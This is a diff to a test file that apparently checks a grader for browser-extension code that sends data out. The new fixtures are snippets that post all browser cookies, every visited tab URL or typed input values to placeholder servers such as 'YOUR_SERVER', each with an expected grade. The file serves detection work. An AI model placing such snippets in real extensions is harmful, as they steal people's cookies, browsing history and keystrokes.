@@ -242,6 +242,38 @@ describe('the grade of what sends data', () => {
       ['F'],
     ],
     [
+      'a kit whose server is an empty text, with a path behind',
+      {
+        background:
+          "const SERVER = ''; chrome.cookies.getAll({}, (all) => fetch(SERVER + '/c', { method: 'POST', body: JSON.stringify(all) }));",
+      },
+      ['F'],
+    ],
+    [
+      'a kit whose server is words, with a path behind',
+      {
+        background:
+          "const config = { to: 'YOUR_SERVER' }; const x = new XMLHttpRequest(); x.open('POST', `${config.to}/h`); chrome.tabs.onUpdated.addListener((id, info, tab) => x.send(tab.url));",
+      },
+      ['F'],
+    ],
+    [
+      'the same to the site and to a file of the package, which are no empty server',
+      {
+        content:
+          "const ROOT = '/api'; document.querySelector('input').oninput = (e) => fetch('' + ROOT + '/c', { method: 'POST', body: e.target.value });",
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'every address to a server that the build writes in',
+      {
+        background:
+          "chrome.tabs.onUpdated.addListener((id, info, tab) => fetch(`${import.meta.env.VITE_API}/v`, { method: 'POST', body: tab.url }));",
+      },
+      ['D', 'F'],
+    ],
+    [
       'a kit whose server is a name that nothing gives a value',
       { content: "$.get(server_web + 'gate/index.php?history=' + location.href);" },
       ['C', 'D', 'F'],
